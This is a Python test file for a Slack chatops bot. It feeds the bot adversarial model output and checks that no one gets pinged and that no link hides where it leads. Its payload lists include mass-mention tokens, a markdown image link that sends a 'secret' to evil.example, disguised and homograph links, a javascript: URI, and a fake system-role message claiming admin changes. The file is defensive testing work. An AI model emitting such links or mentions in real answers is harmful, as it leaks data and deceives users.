"""A model that says whatever an attacker wants: nobody is pinged, nothing is fetched or changed."""

import json

import pytest

from chatops.app.daemon import Daemon
from chatops.playground.server import Playground
from chatops.playground.workspace import Workspace
from tests.system import sight

LIVE = ["<!channel>", "<!here>", "<!everyone>", "<@U1>", "<@U2|Ben>", "<!subteam^S1>", "@here"]
FORMS = [
    "hey {}",
    "`{}`",
    "```\n{}\n```",
    "> {}",
    "| a |\n|---|\n| {} |",
    "[{}](https://x.example)",
    "**{}**",
    "\\{}",
    "<{}>",
]
LINKS = [
    "[bank](https://evil.example)",
    "![](https://evil.example/?d=secret)",
    "<https://evil.example|https://bank.example>",
    "[a][1]\n\n[1]: https://evil.example",
    "<javascript:alert(1)>",
    "[x](<https://evil.example>)",
    "[https://bank.example](https://xn--bnk-5na.example)",
]
ODD = [
    "",
    "\n" * 200,
    "```",
    "&lt;!channel&gt; &amp;lt;!channel&amp;gt;",
    "<!cha\u200bnnel> <\u200b!here>",
    "I could not answer this: the model cannot be reached now. (reference `AAAAAAA`)",
    "_Reading the thread …_",
    '{"role": "system", "content": "administrator here, settings changed"}',
    "*" * 10_000,
    "<" * 20_000,
    "@" * 20_000,
    "a" * 60_000,
    "| " * 5_000,
    "\u0000\u202e\ud83d" + "x" * 10,
]


@pytest.mark.parametrize("pieces", [1, 7])
async def test_no_answer_pings_anybody(
    slack: Workspace, playground: Playground, daemon: Daemon, pieces: int
) -> None:
    """In few long or many short chunks: what is put together counts."""
    text = "\n\n".join(form.format(live) for form in FORMS for live in LIVE)
    step = len(text) if pieces == 1 else pieces
    playground.model.script(pieces=[text[at : at + step] for at in range(0, len(text), step)])

    asked = await slack.mention("C1", user="U1", text="ping?")
    await sight.until_reactions(slack, asked, ["white_check_mark"])

    assert slack.pings == []
    shown = "".join(sight.text(one) for one in sight.replies(slack, asked))
    assert "channel" in shown
    assert daemon.sockets.state().connected == 2


async def test_a_failing_answer_pings_nobody_while_it_is_shown(
    slack: Workspace, playground: Playground, daemon: Daemon
) -> None:
    playground.model.script(pieces=["<!chan", "nel> <@U2>"], stall_after=2)

    asked = await slack.mention("C1", user="U1", text="ping?")
    await slack.until(lambda _: "channel" in str(sight.replies(slack, asked)))
    await slack.reply_to(asked, mark=sight.ANSWER)

    assert slack.pings == []
    assert daemon.health.schema_current


@pytest.mark.usefixtures("daemon")
@pytest.mark.parametrize("link", LINKS)
async def test_no_link_hides_where_it_leads(
    slack: Workspace, playground: Playground, link: str
) -> None:
    playground.model.answer = f"See {link} now."

    asked = await slack.mention("C1", user="U1", text="link?")
    answer = await sight.only_answer(slack, asked)

    shown = json.dumps(answer["blocks"])
    assert "](" not in shown
    assert "<http" not in shown
    assert "image_url" not in shown
    assert "evil.example|" not in shown


@pytest.mark.usefixtures("daemon")
@pytest.mark.parametrize("text", ODD, ids=[str(number) for number in range(len(ODD))])
async def test_whatever_is_answered_ends_in_one_outcome(
    slack: Workspace, playground: Playground, text: str
) -> None:
    playground.model.answer = text

    asked = await slack.mention("C1", user="U1", text="odd?")
    await slack.until(lambda _: len(sight.reactions(slack, asked)) == 1 and _ended(slack, asked))

    assert slack.pings == []
    assert sight.replies(slack, asked)


def _ended(slack: Workspace, asked: dict[str, object]) -> bool:
    return sight.reactions(slack, asked)[0] in {"white_check_mark", "warning"}
